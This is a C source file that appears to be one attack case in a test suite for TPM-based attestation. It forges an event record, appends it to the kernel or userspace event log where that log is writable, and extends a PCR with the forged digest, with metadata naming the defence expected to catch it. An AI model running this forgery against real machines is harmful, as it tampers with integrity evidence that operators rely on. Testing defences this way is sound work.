// SPDX-License-Identifier: Apache-2.0
/*
 * Forges a record: appends an event to the log where it is writable, and extends
 * the module's PCR with its digest.
 *
 * attack: extend_pcr
 * class: tpm
 * when: idle
 * judge: record
 * spoils: yes
 * quick: yes
 * defence: module
 * why: any root can extend a PCR, but the log is the kernel's: it shows as a mismatch
 */
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <unistd.h>

#include "event.h"
#include "report.h"
#include "tpm.h"

static int append(const char *path, const struct event *event)
{
	int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	int ret = 0;

	if (fd < 0)
		return -errno;
	if (write(fd, event, sizeof(*event)) != sizeof(*event))
		ret = -errno;
	close(fd);
	return ret;
}

int main(void)
{
	struct event event;
	int logged, ret;

	attack_init();
	event_forge(&event);
	attack_ready();
	logged = append(EVENT_KERNEL_LOG, &event);
	if (logged)
		logged = append(EVENT_USERSPACE_LOG, &event);
	ret = tpm_extend(event.pcr, event.digest);
	if (ret)
		attack_failed("the PCR cannot be extended: %s", ret < 0 ? strerror(-ret) : "by the TPM");
	attack_succeeded("PCR extended; log %s", logged ? strerror(-logged) : "appended");
}
